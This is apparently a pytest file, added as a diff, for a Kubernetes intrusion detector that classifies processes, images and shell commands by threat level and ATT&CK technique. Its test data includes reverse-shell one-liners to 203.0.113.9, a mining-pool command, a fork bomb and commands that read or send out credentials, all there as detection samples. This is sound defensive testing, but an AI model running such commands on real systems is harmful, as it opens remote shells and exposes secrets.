@@ -1,0 +1,245 @@
+"""What an image or a program is there for, by its name, is no oddity there; the same is one anywhere else."""
+
+import dataclasses
+
+import pytest
+from detection.cluster import Cluster, Replica, alerts, analyse
+from peerwatch.columns import Peer, ProcessFlag
+from peerwatch.subjects import Workload
+
+from collector.detect import software
+from collector.detect.context import of_connect, of_exec
+from collector.detect.tools import Context, Level
+
+API = Peer("default", Workload("apiserver", "kubernetes"))
+METADATA = Peer("", Workload("metadata-service", "metadata-service"))
+
+
+def of_image(pods: list[Replica], image: str) -> list[Replica]:
+    return [
+        dataclasses.replace(
+            each,
+            subject=dataclasses.replace(each.subject, container=dataclasses.replace(each.subject.container, image=image)),
+        )
+        for each in pods
+    ]
+
+
+@pytest.mark.parametrize(
+    ("name", "runs"),
+    [
+        ("gitlab/gitlab-runner-helper:x86_64-17.1", True),
+        ("registry.acme.io:5000/ci/actions-runner@sha256:00", True),
+        ("quay.io/jupyter/scipy-notebook:2024", True),
+        ("Runner.Worker", True),
+        ("runner.acme.io/shop/cart:1", False),
+        ("shop/frontrunner:2", False),
+        ("library/postgres:16", False),
+        ("", False),
+    ],
+)
+def test_who_runs_what_users_give_it_is_known_by_name(name: str, *, runs: bool) -> None:
+    assert software.runs_anything(name) is runs
+
+
+@pytest.mark.parametrize(
+    ("name", "technique", "is_business"),
+    [
+        ("registry.k8s.io/kube-proxy:v1.29.4", "T1562.004", True),
+        ("kube-proxy", "T1562.004", True),
+        ("ebs.csi.aws.com/aws-ebs-csi-driver:v1.30", "T1552.005", True),
+        ("registry.k8s.io/sig-storage/csi-node-driver-registrar", "T1611", True),
+        ("haproxy:2.9", "T1095", True),
+        ("nginx:1.27", "T1562.004", False),
+        ("registry.k8s.io/kube-proxy:v1.29.4", "T1003.008", False),
+    ],
+)
+def test_what_is_odd_elsewhere_is_the_business_of_some(name: str, technique: str, *, is_business: bool) -> None:
+    assert (technique in software.business(name)) is is_business
+
+
+@pytest.mark.parametrize(("image", "count"), [("registry.k8s.io/kube-proxy:v1.29.4", 0), ("acme/router:1", 1)])
+def test_a_network_plugin_changes_the_firewall(cluster: Cluster, image: str, count: int) -> None:
+    pods = of_image(cluster.pods(4), image)
+    cluster.normal(pods, 0, 900)
+    cluster.exec(700.5, pods[2], "/usr/sbin/iptables", args=("iptables", "-w", "5", "-N", "KUBE-SVC-X"))
+
+    assert len(alerts(analyse(cluster, until=1000))) == count
+
+
+def test_an_image_s_business_excuses_nothing_else(cluster: Cluster) -> None:
+    pods = of_image(cluster.pods(4), "registry.k8s.io/kube-proxy:v1.29.4")
+    cluster.normal(pods, 0, 900)
+    cluster.exec(700.5, pods[2], "/usr/bin/nc", args=("nc", "203.0.113.9", "8443"))
+
+    (alert,) = alerts(analyse(cluster, until=1000))
+
+    assert [each.pod for each in alert.replicas] == [pods[2].name]
+
+
+@pytest.mark.parametrize(
+    ("parent", "told"), [("/opt/ci/ci-runner", False), ("/opt/ci/workd", True), ("/dev/shm/ci-runner", True)]
+)
+def test_jobs_of_a_runner_are_its_users_business(cluster: Cluster, parent: str, *, told: bool) -> None:
+    pods = cluster.pods(4)
+    cluster.normal(pods, 0, 900)
+    cluster.exec(700.5, pods[2], "/usr/bin/make", parent=parent)
+    cluster.exec(700.6, pods[2], "/usr/bin/kubectl", parent=parent)
+
+    assert bool(alerts(analyse(cluster, until=1000))) is told
+
+
+@pytest.mark.parametrize("others", [True, False])
+def test_an_intruder_s_notebook_makes_no_workload_one_that_runs_anything(cluster: Cluster, *, others: bool) -> None:
+    pods = cluster.pods(4)
+    cluster.normal(pods, 0, 1500)
+    kernel = ("python3", "-m", "ipykernel_launcher", "-f", "/run/kernel.json")
+    for pod in pods if others else pods[2:3]:
+        cluster.exec(5.5, pod, "/usr/bin/python3.11", args=kernel)
+    cluster.exec(1300.5, pods[2], "/usr/bin/kubectl", args=("kubectl", "get", "ns"))
+
+    assert bool(alerts(analyse(cluster, until=1600))) is not others
+
+
+@pytest.mark.parametrize(
+    ("name", "reaches"), [("registry.k8s.io/ingress-nginx/controller:v1.10", True), ("kong:3.6", True), ("shop/cart:1", False)]
+)
+def test_who_routes_reaches_every_service(cluster: Cluster, name: str, *, reaches: bool) -> None:
+    assert software.reaches_everything(name) is reaches
+    pods = of_image(cluster.pods(4), name)
+    cluster.normal(pods, 0, 3000, every=5)
+    cluster.connect(2700.5, pods[1], "/usr/bin/server", ("10.0.7.9", 8080), peer=Peer("crm", Workload("Service", "quotes")))
+
+    assert bool(alerts(analyse(cluster, until=3100))) is not reaches
+
+
+def test_who_joins_its_own_peers_is_no_deviation(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    cluster.normal(pods, 0, 3000, every=5)
+    cluster.connect(2700.5, pods[1], "/usr/bin/server", ("10.0.7.9", 6379), peer=Peer("shop", Workload("Deployment", "cart")))
+
+    assert alerts(analyse(cluster, until=3100)) == []
+
+
+def exec_of(
+    program: str, *arguments: str, parent: str = "/usr/bin/server", injected: bool = False, socket: bool = False
+) -> Context:
+    return of_exec(
+        program=program,
+        parent=parent,
+        arguments=arguments,
+        upper_layer=False,
+        memory_file=False,
+        stdio_socket=socket,
+        injected=injected,
+    )
+
+
+@pytest.mark.parametrize(
+    ("arguments", "parent", "level"),
+    [
+        (("openssl", "x509", "-noout", "-enddate", "-in", "/etc/ssl/x.pem"), "/usr/bin/dash", Level.NEUTRAL),
+        (("openssl", "dgst", "-sha256", "/srv/x"), "/usr/bin/dash", Level.NEUTRAL),
+        (("openssl", "enc", "-d", "-aes-256-cbc", "-in", "/srv/x"), "/usr/bin/dash", Level.SUSPICIOUS),
+        (("openssl", "s_client", "-connect", "203.0.113.9:443"), "/usr/bin/dash", Level.SUSPICIOUS),
+        (("kill", "-HUP", "1"), "/usr/bin/dash", Level.NEUTRAL),
+        (("kill", "-9", "1"), "/usr/bin/dash", Level.SUSPICIOUS),
+        (("convert", "/srv/a.png", "/srv/b.png"), "/usr/bin/php8.2", Level.ROUTINE),
+        (("nginx", "-s", "reload"), "/usr/bin/nginx", Level.ROUTINE),
+        (("tar", "xf", "/srv/upload.tar"), "/usr/bin/php8.2", Level.NEUTRAL),
+        (("tar", "cf", "/srv/x.tar", "/srv"), "/usr/bin/dash", Level.SUSPICIOUS),
+    ],
+)
+def test_what_services_use_tools_for_is_told_apart_from_the_rest(arguments: tuple[str, ...], parent: str, level: Level) -> None:
+    assert exec_of(f"/usr/bin/{arguments[0]}", *arguments, parent=parent).level is level
+
+
+def test_a_helper_from_a_temporary_folder_is_none() -> None:
+    assert exec_of("/tmp/<file>", "convert").level is Level.STRONG
+
+
+@pytest.mark.parametrize(("parent", "level"), [("/usr/bin/node", Level.SUSPICIOUS), ("/usr/bin/java", Level.KNOWN_BAD)])
+def test_a_pair_of_sockets_instead_of_pipes_is_no_remote_shell(parent: str, level: Level) -> None:
+    assert exec_of("/usr/bin/dash", "sh", "-c", "ls /srv", parent=parent, socket=True).level is level
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
+        "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/p",
+        "nc -e /bin/sh 203.0.113.9 443",
+        "ncat 203.0.113.9 443 --sh-exec sh",
+        "socat tcp:203.0.113.9:443 exec:/bin/sh,pty",
+        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0)'",
+        'php -r \'$s=fsockopen("203.0.113.9",443);exec("/bin/sh -i <&3 >&3");\'',
+        "./m -o stratum+tcp://203.0.113.9:3333",
+        ":(){ :|:& };:",
+    ],
+)
+def test_what_nothing_normal_is_told_is_known_at_once(words: str) -> None:
+    assert exec_of("/usr/bin/dash", "sh", "-c", words).level is Level.KNOWN_BAD
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "timeout 1 bash -c '</dev/tcp/db/5432'",
+        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET /health HTTP/1.1' >&3; cat <&3",
+        "nc -z db 5432 && exec server",
+        "mkfifo /run/log; cat /run/log | grep -v debug",
+        "python3 -c 'import socket; socket.create_connection((\"db\", 5432))'",
+        "socat - UNIX-CONNECT:/run/haproxy.sock",
+    ],
+)
+def test_what_probes_and_entrypoints_are_told_is_not_known_bad(words: str) -> None:
+    assert exec_of("/usr/bin/dash", "sh", "-c", words).level < Level.KNOWN_BAD
+
+
+def test_hostile_words_cost_no_time() -> None:
+    for piece in ("mkfifo|sh|nc ", "sh -", "grep -", "socket ", "nc -", "exec(", "/dev/tcp/", "kill -"):
+        exec_of("/usr/bin/dash", "sh", "-c", piece * (8192 // len(piece)))  # the suite's limit for a test is the assertion
+
+
+@pytest.mark.parametrize(
+    ("target", "level"), [("xmr.pool.site:443/tcp", Level.KNOWN_BAD), ("pool.ntp.org:123/udp", Level.ROUTINE)]
+)
+def test_a_mining_pool_is_known_by_its_name(target: str, level: Level) -> None:
+    assert of_connect(program="/usr/bin/server", target=target).level is level
+
+
+def test_what_starts_the_entry_by_itself_is_odd() -> None:
+    assert exec_of("/proc/self/exe", "x", parent="", injected=True).level is Level.STRONG
+
+
+def test_what_no_probe_needs_is_told_in_first_minutes(cluster: Cluster) -> None:
+    pods = cluster.pods(1)
+    cluster.normal(pods, 0, 600)
+    cluster.exec(100.5, pods[0], "/usr/sbin/modprobe", parent="", args=("modprobe", "x"), flags=(ProcessFlag.INJECTED,))
+
+    (alert,) = alerts(analyse(cluster, until=600))
+
+    assert "loads kernel modules" in alert.reason
+
+
+@pytest.mark.parametrize(
+    ("words", "technique"),
+    [
+        ("cat /var/lib/rabbitmq/.erlang.cookie", "T1552.001"),
+        ("psql -Atc 'select usename, passwd from pg_shadow'", "T1555"),
+        ("curl -s -T /srv/tasks.py http://hooks.partner/in", "T1048"),
+        ("cat /proc/net/tcp", "T1016"),
+        ("ls -l /proc/1/exe", "T1057"),
+        ("cat /etc/os-release", "T1082"),
+        ("ls -la /root/.ssh", "T1552.004"),
+    ],
+)
+def test_words_say_what_they_are_about(words: str, technique: str) -> None:
+    assert technique in exec_of("/usr/bin/dash", "sh", "-c", words).techniques
+
+
+@pytest.mark.parametrize("words", ["curl -fsS -t 5 http://localhost/healthz", "netstat -tlnp", "echo '10.0.0.9 db' >>/etc/hosts"])
+def test_words_that_look_alike_say_nothing_of_it(words: str) -> None:
+    told = exec_of("/usr/bin/dash", "sh", "-c", words).techniques
+
+    assert not {"T1048", "T1016"}.intersection(told) or words.startswith("netstat")
